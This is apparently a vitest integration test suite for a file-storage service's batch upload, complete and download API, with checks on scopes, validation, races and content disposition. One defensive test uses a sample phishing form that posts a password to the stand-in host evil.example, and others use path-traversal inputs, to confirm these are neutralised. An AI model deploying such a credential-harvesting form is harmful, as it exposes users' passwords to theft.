import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { Api, encodePath, md5Base64, randomBytes, sameBytes, sha256Hex, uploadBytes } from '../support/api.ts';
import { startTestServer, type TestServer } from '../support/server.ts';

const MiB = 1024 * 1024;
const text = (s: string) => new TextEncoder().encode(s);
let server: TestServer;
let api: Api;

beforeAll(async () => {
  server = await startTestServer();
  api = new Api(server.url, server.adminToken);
  expect((await uploadBytes(api, 'team/exists.txt', text('old'))).status).toBe(200);
});
afterAll(() => server?.close());

async function token(body: Record<string, unknown>): Promise<Api> {
  const created = await api.post('/v1/tokens', body);
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  return api.as(created.body.token);
}

/** PUTs each body to its upload's presigned URL with exactly the returned headers, 32 at a time. */
async function putAll(uploads: { url: string; headers: Record<string, string> }[], bodies: Uint8Array<ArrayBuffer>[]): Promise<void> {
  let next = 0;
  const worker = async () => {
    for (let i = next++; i < uploads.length; i = next++) {
      const put = await fetch(uploads[i]!.url, { method: 'PUT', headers: uploads[i]!.headers, body: bodies[i] });
      await put.arrayBuffer();
      expect(put.status, `PUT ${i}`).toBe(200);
    }
  };
  await Promise.all(Array.from({ length: 32 }, worker));
}

async function listAll(prefix: string): Promise<{ path: string; version: string; size: number }[]> {
  const page = await api.get(`/v1/files?prefix=${encodeURIComponent(prefix)}&limit=1000`);
  expect(page.status).toBe(200);
  return page.body.files;
}

/**
 * Completes the uploads in one batch, counting the HEAD and list calls the server makes on
 * the real store; `lagging` has every listing come back empty, as a store behind on writes may.
 */
async function completeCounting(uploads: { id: string }[], lagging = false) {
  const store = server.ctx.store as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>;
  const counts = { head: 0, listObjects: 0 };
  for (const name of ['head', 'listObjects'] as const) {
    const real = store[name]!.bind(store);
    store[name] = (...args) => {
      counts[name]++;
      return lagging && name === 'listObjects' ? Promise.resolve(new Map()) : real(...args);
    };
  }
  try {
    const response = await api.post('/v1/batch/complete', { uploads: uploads.map((u) => ({ id: u.id })) });
    expect(response.status).toBe(200);
    return { results: response.body.results, counts };
  } finally {
    delete store.head;
    delete store.listObjects;
  }
}

describe('batch uploads, complete and downloads', () => {
  it('moves 50 files of varied sizes in three API calls, verified with one listing', async () => {
    const bodies = Array.from({ length: 50 }, (_, i) => randomBytes(i === 0 ? 0 : (i * 7919) % 200_000, i + 1));
    const paths = bodies.map((_, i) => `happy/${String(i).padStart(2, '0')}-${i % 3 === 0 ? 'note.txt' : 'data.bin'}`);
    const files = await Promise.all(
      bodies.map(async (body, i) => ({
        path: paths[i],
        size: body.length,
        ...(i % 2 === 0 ? { sha256: await sha256Hex(body) } : {}),
        ...(i % 5 === 0 ? { md5: md5Base64(body) } : {}),
      })),
    );
    const created = await api.post('/v1/batch/uploads', { files });
    expect(created.status).toBe(200);
    expect(created.body.uploads).toHaveLength(50);
    created.body.uploads.forEach((upload: any, i: number) => {
      expect(upload).toMatchObject({ path: paths[i], method: 'PUT' });
      expect(Object.keys(upload).sort()).toEqual(['expiresAt', 'headers', 'id', 'method', 'path', 'url']);
      expect(upload.headers['Content-Length']).toBe(String(bodies[i]!.length));
    });
    expect(created.body.uploads[0].headers['Content-Type']).toBe('text/plain; charset=utf-8');
    // One batch, one key prefix: that is what lets complete list instead of asking per file.
    const keys = await Promise.all(created.body.uploads.map(async (u: any) => (await server.ctx.index.getUpload(u.id))!.objectKey));
    const prefix = keys[0]!.slice(0, keys[0]!.lastIndexOf('/') + 1);
    expect(prefix).toMatch(/^o\/[0-9a-z]{16}\/$/);
    expect(new Set(keys).size).toBe(50);
    for (const key of keys) expect(key.startsWith(prefix)).toBe(true);

    await putAll(created.body.uploads, bodies);
    expect(await listAll('happy/')).toEqual([]);

    const done = await completeCounting(created.body.uploads);
    expect(done.counts).toEqual({ head: 0, listObjects: 1 });
    expect(done.results).toHaveLength(50);
    done.results.forEach((result: any, i: number) => {
      expect(result.id).toBe(created.body.uploads[i].id);
      expect(result.file).toMatchObject({ path: paths[i], size: bodies[i]!.length, sha256: files[i]!.sha256 ?? null });
    });

    const listed = await listAll('happy/');
    expect(listed.map((f) => f.path)).toEqual([...paths].sort());
    for (const file of listed) expect(file.version).toBe(done.results[paths.indexOf(file.path)].file.version);

    const links = await api.post('/v1/batch/downloads', { files: paths.map((path) => ({ path })) });
    expect(links.status).toBe(200);
    expect(links.body.downloads).toHaveLength(50);
    await Promise.all(
      links.body.downloads.map(async (link: any, i: number) => {
        expect(link).toMatchObject({ path: paths[i], size: bodies[i]!.length, version: done.results[i].file.version });
        expect(Object.keys(link).sort()).toEqual(['contentType', 'expiresAt', 'path', 'sha256', 'size', 'url', 'version']);
        const response = await fetch(link.url);
        expect(response.status).toBe(200);
        expect(await sameBytes(new Uint8Array(await response.arrayBuffer()), bodies[i]!)).toBe('same');
      }),
    );
  });

  it('takes 1000 files per request and lists a batch prefix page by page', async () => {
    const bodies = Array.from({ length: 1000 }, (_, i) => text(`file ${i}`));
    const created = await api.post('/v1/batch/uploads', { files: bodies.map((b, i) => ({ path: `thousand/${i}.txt`, size: b.length })) });
    expect(created.status).toBe(200);
    expect(created.body.uploads.filter((u: any) => u.error)).toEqual([]);
    await putAll(created.body.uploads, bodies);
    // One more object under the batch's prefix, listed first, so that the last batch key is on page two.
    const key = (await server.ctx.index.getUpload(created.body.uploads[0].id))!.objectKey;
    const extra = await server.ctx.store.presignPut(`${key.slice(0, key.lastIndexOf('/') + 1)}0000000000`, { contentLength: 1, contentType: 'text/plain', expiresInSeconds: 60 });
    await putAll([extra], [text('x')]);

    const done = await completeCounting(created.body.uploads);
    expect(done.counts).toEqual({ head: 0, listObjects: 1 });
    expect(done.results.filter((r: any) => r.error)).toEqual([]);
    const page = await api.get('/v1/files?prefix=thousand/&limit=1000');
    expect(page.body.files).toHaveLength(1000);
    expect(page.body.nextCursor).toBeNull();
  });

  it('asks the index a fixed number of queries per batch however many files it holds, the commits handed to the index in one call', async () => {
    // Counts the calls on the real index; every call still goes through to it.
    const index = server.ctx.index as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>;
    const names = Object.getOwnPropertyNames(Object.getPrototypeOf(index)).filter((name) => name !== 'constructor');
    async function counting<T>(run: () => Promise<T>): Promise<{ result: T; calls: Record<string, number> }> {
      const spies = names.map((name) => [name, vi.spyOn(index, name)] as const);
      try {
        const result = await run();
        return { result, calls: Object.fromEntries(spies.flatMap(([name, spy]) => (spy.mock.calls.length > 0 ? [[name, spy.mock.calls.length]] : []))) };
      } finally {
        for (const [, spy] of spies) spy.mockRestore();
      }
    }
    expect((await uploadBytes(api, 'shared/taken/file.txt', text('here'))).status).toBe(200);
    for (const count of [20, 60]) {
      const files = Array.from({ length: count }, (_, i) => ({ path: `shared/deep/${count}/folder${i % 7}/${i}.txt`, size: 1 }));
      // A path that is a folder and one under a file fail as alone, found by the same two queries.
      const clashes = [{ path: 'shared/taken', size: 1 }, { path: 'shared/taken/file.txt/under', size: 1 }];
      const created = await counting(() => api.post('/v1/batch/uploads', { files: [...files, ...clashes] }));
      expect(created.result.status).toBe(200);
      const uploads = created.result.body.uploads;
      expect(uploads.slice(count).map((u: any) => [u.error?.code, u.error?.reason])).toEqual([
        ['conflict', 'name_clash'],
        ['conflict', 'name_clash'],
      ]);
      expect(created.calls).toEqual({ filesAt: 1, foldersWithFiles: 1, createUploads: 1 });

      await putAll(uploads.slice(0, count), files.map(() => text('x')));
      const done = await counting(() => api.post('/v1/batch/complete', { uploads: uploads.slice(0, count).map((u: any) => ({ id: u.id })) }));
      expect(done.result.body.results.filter((r: any) => r.error)).toEqual([]);
      expect(done.calls).toEqual({ getUploads: 1, commitVersions: 1 });

      // Sent again whole (its answer lost, say): each file's entry again, read for all at once.
      const again = await counting(() => api.post('/v1/batch/complete', { uploads: uploads.slice(0, count).map((u: any) => ({ id: u.id })) }));
      expect(again.result.body.results).toEqual(done.result.body.results);
      expect(again.calls).toEqual({ getUploads: 1, getVersions: 1, filesAt: 1 });

      const versions = done.result.body.results.map((r: any) => r.file.version);
      const wanted = [...files.map(({ path }, i) => ({ path, ...(i % 2 === 0 ? { version: versions[i] } : {}) })), { path: 'shared/nothing-here' }];
      const links = await counting(() => api.post('/v1/batch/downloads', { files: wanted }));
      expect(links.result.body.downloads.slice(0, count).map((d: any) => [d.path, d.version])).toEqual(files.map(({ path }, i) => [path, versions[i]]));
      expect(links.result.body.downloads[count].error.code).toBe('not_found');
      expect(links.calls).toEqual({ filesAt: 1, getVersions: 1 });
    }
  });

  it('refuses, as a whole, a batch whose paths are so deep that their folders add up to more than it checks at once', async () => {
    // 40 paths of ~1,000 characters, 490 folders deep: some 10 million characters of folders.
    const files = Array.from({ length: 40 }, (_, i) => ({ path: `deep/d${String(i).padStart(2, '0')}/${'a/'.repeat(490)}f`, size: 1 }));
    const refused = await api.post('/v1/batch/uploads', { files });
    expect(refused.status).toBe(400);
    expect(refused.body.error.code).toBe('invalid_request');
    expect(refused.body.error.message).toMatch(/send fewer files per batch/);
    expect((await api.get('/v1/files?prefix=deep/')).body.files).toEqual([]);
    // A few of them at a time go through.
    const fewer = await api.post('/v1/batch/uploads', { files: files.slice(0, 8) });
    expect(fewer.status).toBe(200);
    expect(fewer.body.uploads.every((u: { id?: string }) => u.id)).toBe(true);
  });

  it('fails bad items alone, with the codes the single routes give, and commits nothing for them', async () => {
    const existing = (await api.get(`/v1/files/${encodePath('team/exists.txt')}`)).body;
    const writer = await token({ name: 'team writer', scopes: ['read', 'write'], prefix: 'team' });
    const files = [
      { path: 'team/ok-1.txt', size: 4 },
      { path: 'team/a/../b', size: 1 },
      { path: 'elsewhere/x.txt', size: 1 },
      { path: 'team/exists.txt', size: 3, ifNoneMatch: '*' },
      { path: 'team/exists.txt', size: 3, ifMatch: 'not-a-version' },
      { path: 'team/exists.txt/under', size: 1 },
      { path: 'team/big.bin', size: 5 * 1024 ** 3 + 1 },
      { path: 'team/huge.bin', size: 6 * 1024 ** 4 },
      { path: 'team/ok-2.txt', size: 4 },
    ];
    const created = await writer.post('/v1/batch/uploads', { files });
    expect(created.status).toBe(200);
    const { uploads } = created.body;
    expect(uploads.map((u: any) => u.error?.code ?? 'ok')).toEqual([
      'ok',
      'invalid_path',
      'forbidden',
      'precondition_failed',
      'precondition_failed',
      'conflict',
      'too_large',
      'too_large',
      'ok',
    ]);
    uploads.forEach((upload: any, i: number) => expect(upload.path).toBe(files[i]!.path));
    expect(uploads[5].error.reason).toBe('name_clash');
    expect(uploads[6].error.message).toMatch(/single PUT holds at most 5 GiB: use multipart/);
    for (const failed of uploads.filter((u: any) => u.error)) expect(Object.keys(failed).sort()).toEqual(['error', 'path']);

    const ok = [uploads[0], uploads[8]];
    await putAll(ok, [text('one!'), text('two!')]);
    const done = await writer.post('/v1/batch/complete', { uploads: ok.map((u: any) => ({ id: u.id })) });
    expect(done.body.results.map((r: any) => r.file?.path)).toEqual(['team/ok-1.txt', 'team/ok-2.txt']);

    expect((await listAll('team/')).map((f) => f.path)).toEqual(['team/exists.txt', 'team/ok-1.txt', 'team/ok-2.txt']);
    expect((await api.get(`/v1/files/${encodePath('team/exists.txt')}`)).body.version).toBe(existing.version);
    expect((await listAll('elsewhere/')).length).toBe(0);
    expect((await api.get('/v1/files?prefix=team/a')).body.files).toEqual([]);

    // Prefixes hold for complete and downloads too: another token's upload, another folder's file.
    const foreign = await api.post('/v1/batch/uploads', { files: [{ path: 'elsewhere/y.txt', size: 1 }] });
    const denied = await writer.post('/v1/batch/complete', { uploads: [{ id: foreign.body.uploads[0].id }, { id: 'no-such-upload' }] });
    expect(denied.body.results.map((r: any) => r.error.code)).toEqual(['forbidden', 'not_found']);
    const links = await writer.post('/v1/batch/downloads', { files: [{ path: 'team/ok-1.txt' }, { path: 'b/../c' }, { path: 'happy/00-note.txt' }, { path: 'team/none' }] });
    expect(links.body.downloads.map((d: any) => d.error?.code ?? 'ok')).toEqual(['ok', 'invalid_path', 'forbidden', 'not_found']);
  });

  it('reports a file never PUT as upload_incomplete, commits the rest, and completes it later', async () => {
    const bodies = [text('first'), text('second'), text('third')];
    const created = await api.post('/v1/batch/uploads', { files: bodies.map((b, i) => ({ path: `late/${i}.txt`, size: b.length })) });
    const [first, second, third] = created.body.uploads;
    await putAll([first, third], [bodies[0]!, bodies[2]!]);

    const done = await api.post('/v1/batch/complete', { uploads: created.body.uploads.map((u: any) => ({ id: u.id })) });
    expect(done.status).toBe(200);
    expect(done.body.results[1]).toEqual({ id: second.id, error: { code: 'upload_incomplete', message: expect.stringMatching(/PUT/) } });
    expect(done.body.results[0].file.path).toBe('late/0.txt');
    expect(done.body.results[2].file.path).toBe('late/2.txt');
    expect((await listAll('late/')).map((f) => f.path)).toEqual(['late/0.txt', 'late/2.txt']);

    await putAll([second], [bodies[1]!]);
    const retried = await api.post('/v1/batch/complete', { uploads: created.body.uploads.map((u: any) => ({ id: u.id })) });
    expect(retried.status).toBe(200);
    // Completing again is safe: the committed ones answer with the versions they got.
    expect(retried.body.results[0]).toEqual(done.body.results[0]);
    expect(retried.body.results[2]).toEqual(done.body.results[2]);
    expect(retried.body.results[1].file).toMatchObject({ path: 'late/1.txt', size: bodies[1]!.length });
    const again = await api.post('/v1/batch/complete', { uploads: created.body.uploads.map((u: any) => ({ id: u.id })) });
    expect(again.body).toEqual(retried.body);

    const links = await api.post('/v1/batch/downloads', { files: [0, 1, 2].map((i) => ({ path: `late/${i}.txt` })) });
    expect(links.body.downloads).toHaveLength(3);
    for (const [i, link] of links.body.downloads.entries()) {
      expect(new Uint8Array(await (await fetch(link.url)).arrayBuffer())).toEqual(bodies[i]);
    }
  });

  it('answers aborted uploads with not_found and declared digests that differ with upload_incomplete', async () => {
    const digest = await sha256Hex(text('c'));
    const declared = await sha256Hex(text('d'));
    const created = await api.post('/v1/batch/uploads', {
      files: [{ path: 'gone/a', size: 1 }, { path: 'gone/b', size: 1 }, { path: 'gone/c', size: 1 }, { path: 'gone/d', size: 1, sha256: declared }],
    });
    const [a, b, c, d] = created.body.uploads;
    await putAll([a, b, c, d], [text('a'), text('b'), text('c'), text('d')]);
    expect((await api.delete(`/v1/uploads/${a.id}`)).status).toBe(204);
    const done = await api.post('/v1/batch/complete', {
      uploads: [{ id: a.id }, { id: b.id, sha256: 'ab'.repeat(32) }, { id: c.id, sha256: digest }, { id: d.id, sha256: 'cd'.repeat(32) }],
    });
    expect(done.body.results[0].error.code).toBe('not_found');
    // A digest first given at complete is recorded as given (the store cannot check SHA-256).
    expect(done.body.results[1].file.sha256).toBe('ab'.repeat(32));
    expect(done.body.results[2].file.sha256).toBe(digest);
    expect(done.body.results[3].error.code).toBe('upload_incomplete');
    expect(done.body.results[3].error.message).toMatch(/differs from/);
    expect((await api.get('/v1/files/gone/d')).status).toBe(404);
  });

  it('completes multipart and single uploads made one by one in the same batch', async () => {
    const big = randomBytes(6 * MiB, 21);
    const multipart = await api.post('/v1/uploads', { path: 'mixed/big.bin', size: big.length, multipart: true, partSize: 5 * MiB });
    await putAll(multipart.body.parts, [big.subarray(0, 5 * MiB), big.subarray(5 * MiB)]);
    const single = await api.post('/v1/uploads', { path: 'mixed/one.txt', size: 3 });
    await putAll([single.body], [text('one')]);
    const batch = await api.post('/v1/batch/uploads', { files: [{ path: 'mixed/two.txt', size: 3 }] });
    await putAll(batch.body.uploads, [text('two')]);

    const done = await api.post('/v1/batch/complete', { uploads: [{ id: multipart.body.id }, { id: single.body.id }, { id: batch.body.uploads[0].id }] });
    expect(done.body.results.map((r: any) => r.file?.path ?? r.error.code)).toEqual(['mixed/big.bin', 'mixed/one.txt', 'mixed/two.txt']);
    const links = await api.post('/v1/batch/downloads', { files: [{ path: 'mixed/big.bin' }] });
    expect(await sameBytes(new Uint8Array(await (await fetch(links.body.downloads[0].url)).arrayBuffer()), big)).toBe('same');
  });

  it('confirms with HEAD what a lagging listing does not show', async () => {
    const created = await api.post('/v1/batch/uploads', { files: [0, 1, 2].map((i) => ({ path: `lag/${i}`, size: 2 })) });
    await putAll(created.body.uploads, [text('l0'), text('l1'), text('l2')]);
    const done = await completeCounting(created.body.uploads, true);
    expect(done.counts).toEqual({ head: 3, listObjects: 1 });
    expect(done.results.map((r: any) => r.file.path)).toEqual(['lag/0', 'lag/1', 'lag/2']);
  });

  it('serves older versions and the inline disposition', async () => {
    const first = await uploadBytes(api, 'versions/doc.txt', text('v1'));
    await uploadBytes(api, 'versions/doc.txt', text('v2'));
    const links = await api.post('/v1/batch/downloads', {
      files: [{ path: 'versions/doc.txt', version: first.body.version }, { path: 'versions/doc.txt' }, { path: 'versions/doc.txt', version: 'nope' }],
      disposition: 'inline',
    });
    const [old, current, missing] = links.body.downloads;
    expect(new TextDecoder().decode(await (await fetch(old.url)).arrayBuffer())).toBe('v1');
    expect(old.version).toBe(first.body.version);
    const response = await fetch(current.url);
    expect(await response.text()).toBe('v2');
    expect(response.headers.get('content-disposition')).toMatch(/^inline/);
    expect(missing).toEqual({ path: 'versions/doc.txt', error: { code: 'not_found', message: expect.any(String) } });
  });

  it('serves inline only what a browser shows without running it: a page (HTML, SVG, scripts, a type it sniffs) comes as a file, by link, route or share', async () => {
    const page = text('<form action="https://evil.example/steal"><input name="password"></form>');
    const disguised = ['unknown/unknown', 'application/unknown', '*/*', 'text/plain,text/html', 'html', 'text/plain; charset="a,text/html"'];
    const cases = [['pages/invoice.pdf', 'text/html'], ['pages/logo.svg', undefined], ['pages/app.js', 'Text/JavaScript; charset=utf-8'], ...disguised.map((type, i) => [`pages/sniffed-${i}.txt`, type])] as const;
    for (const [path, contentType] of cases) {
      expect((await uploadBytes(api, path, page, contentType ? { contentType } : {})).status).toBe(200);
      const link = (await api.post('/v1/batch/downloads', { files: [{ path }], disposition: 'inline' })).body.downloads[0];
      const share = await api.post('/v1/shares', { path, disposition: 'inline' });
      const viaShare = (await fetch(share.body.url, { redirect: 'manual' })).headers.get('location')!;
      const viaRoute = (await api.get(`/v1/content/${path}?disposition=inline`)).headers.get('location')!;
      for (const url of [link.url, viaShare, viaRoute]) {
        const response = await fetch(url);
        expect(await response.text()).toBe(new TextDecoder().decode(page));
        expect(response.headers.get('content-disposition'), `${path} ${url}`).toMatch(/^attachment; filename=/);
      }
    }
    // Images, text, PDF, sound and video are shown inline when asked.
    for (const [path, contentType] of [['pages/photo.png', undefined], ['pages/notes.txt', undefined], ['pages/report.pdf', undefined], ['pages/clip.mp4', 'Video/MP4']] as const) {
      await uploadBytes(api, path, text('shown'), contentType ? { contentType } : {});
      const link = (await api.post('/v1/batch/downloads', { files: [{ path }], disposition: 'inline' })).body.downloads[0];
      expect((await fetch(link.url)).headers.get('content-disposition'), path).toMatch(/^inline/);
    }
  });
});

describe('batch envelopes', () => {
  it('refuses a bad envelope as a whole and changes nothing', async () => {
    const item = { path: 'envelope/x.txt', size: 1 };
    const cases: [string, unknown, number][] = [
      ['/v1/batch/uploads', { files: [] }, 400],
      ['/v1/batch/uploads', { files: Array.from({ length: 1001 }, (_, i) => ({ path: `envelope/${i}`, size: 1 })) }, 400],
      ['/v1/batch/uploads', { files: item }, 400],
      ['/v1/batch/uploads', { files: [item, 'envelope/y.txt'] }, 400],
      ['/v1/batch/uploads', { files: [item, { path: 'envelope/y.txt', size: '1' }] }, 400],
      ['/v1/batch/uploads', { files: [item, { path: 'envelope/y.txt', size: 1, multipart: true }] }, 400],
      ['/v1/batch/uploads', {}, 400],
      ['/v1/batch/complete', { uploads: [] }, 400],
      ['/v1/batch/complete', { uploads: Array.from({ length: 1001 }, (_, i) => ({ id: `u${i}` })) }, 400],
      ['/v1/batch/complete', { uploads: [{ id: 'same' }, { id: 'same' }] }, 400],
      ['/v1/batch/downloads', { files: [] }, 400],
      ['/v1/batch/downloads', { files: [{ path: 'a' }], disposition: 'sideways' }, 400],
    ];
    for (const [route, body, status] of cases) {
      const response = await api.post(route, body);
      expect(response.status, `${route} ${JSON.stringify(body).slice(0, 80)}`).toBe(status);
      expect(response.body.error.code).toBe('invalid_request');
    }
    for (const route of ['/v1/batch/uploads', '/v1/batch/complete', '/v1/batch/downloads']) {
      const malformed = await api.request('POST', route, { rawBody: '{"files": [', headers: { 'content-type': 'application/json' } });
      expect(malformed.status).toBe(400);
      expect(malformed.body.error.code).toBe('invalid_request');
      const anonymous = await api.as(null).post(route, { files: [item], uploads: [{ id: 'x' }] });
      expect(anonymous.status).toBe(401);
    }
    expect(await listAll('envelope/')).toEqual([]);
  });

  it('checks the scope for the whole request', async () => {
    const reader = await token({ name: 'reader', scopes: ['read'] });
    const refused = await reader.post('/v1/batch/uploads', { files: [{ path: 'scoped/x', size: 1 }] });
    expect(refused.status).toBe(403);
    expect((await reader.post('/v1/batch/complete', { uploads: [{ id: 'x' }] })).status).toBe(403);
    const writer = await token({ name: 'writer only', scopes: ['write'] });
    expect((await writer.post('/v1/batch/downloads', { files: [{ path: 'scoped/x' }] })).status).toBe(403);
    expect(await listAll('scoped/')).toEqual([]);
  });
});

describe('racing batches', () => {
  it('two batch completes with ifMatch on one path: exactly one wins, the other commits its other files', async () => {
    const first = await uploadBytes(api, 'race/shared.txt', text('base'));
    const batches = await Promise.all(
      ['left', 'right'].map(async (side) => {
        const bodies = [text(`${side} wins`), text(`${side} own`)];
        const created = await api.post('/v1/batch/uploads', {
          files: [
            { path: 'race/shared.txt', size: bodies[0]!.length, ifMatch: first.body.version },
            { path: `race/${side}.txt`, size: bodies[1]!.length },
          ],
        });
        expect(created.status).toBe(200);
        await putAll(created.body.uploads, bodies);
        return { side, bodies, ids: created.body.uploads.map((u: any) => u.id) };
      }),
    );
    const results = await Promise.all(batches.map((b) => api.post('/v1/batch/complete', { uploads: b.ids.map((id: string) => ({ id })) })));
    const shared = results.map((r) => r.body.results[0]);
    const winners = shared.filter((r) => r.file);
    expect(winners).toHaveLength(1);
    expect(shared.filter((r) => r.error?.code === 'precondition_failed')).toHaveLength(1);
    for (const [i, r] of results.entries()) expect(r.body.results[1].file).toMatchObject({ path: `race/${batches[i]!.side}.txt` });

    const winner = batches[shared.indexOf(winners[0])]!;
    const stat = await api.get(`/v1/files/${encodePath('race/shared.txt')}`);
    expect(stat.body.version).toBe(winners[0].file.version);
    const link = await api.post('/v1/batch/downloads', { files: [{ path: 'race/shared.txt' }] });
    expect(new Uint8Array(await (await fetch(link.body.downloads[0].url)).arrayBuffer())).toEqual(winner.bodies[0]);
    expect((await api.get('/v1/versions/race/shared.txt')).body.versions).toHaveLength(2);
    expect((await listAll('race/')).map((f) => f.path)).toEqual(['race/left.txt', 'race/right.txt', 'race/shared.txt']);

    // The loser's upload was aborted with its commit: completing it again still fails.
    const loser = batches[1 - shared.indexOf(winners[0])]!;
    const retried = await api.post('/v1/batch/complete', { uploads: [{ id: loser.ids[0] }] });
    expect(retried.body.results[0].error.code).toBe('not_found');
  });
});

describe('a server whose single-PUT threshold is below the batch files', () => {
  it('takes every batch item as a single PUT: the threshold picks the default of POST /v1/uploads only', async () => {
    const low = await startTestServer({ env: { DFS_SINGLE_PUT_MAX: '1MiB' } });
    try {
      const admin = new Api(low.url, low.adminToken);
      const bytes = randomBytes(2 * MiB);
      const created = await admin.post('/v1/batch/uploads', { files: [{ path: 'two-mib.bin', size: bytes.length, md5: md5Base64(bytes) }] });
      expect(created.status).toBe(200);
      const [upload] = created.body.uploads;
      expect(upload.error).toBeUndefined();
      await putAll([upload], [bytes]);
      const digest = await sha256Hex(bytes);
      const done = await admin.post('/v1/batch/complete', { uploads: [{ id: upload.id, sha256: digest }] });
      expect(done.status, JSON.stringify(done.body)).toBe(200);
      expect(done.body.results[0].file).toMatchObject({ path: 'two-mib.bin', size: 2 * MiB, sha256: digest });
      const single = await admin.post('/v1/uploads', { path: 'alone.bin', size: 2 * MiB });
      expect(single.body.partSize, 'one by one, above the threshold is still multipart').toBeGreaterThan(0);
    } finally {
      await low.close();
    }
  });
});
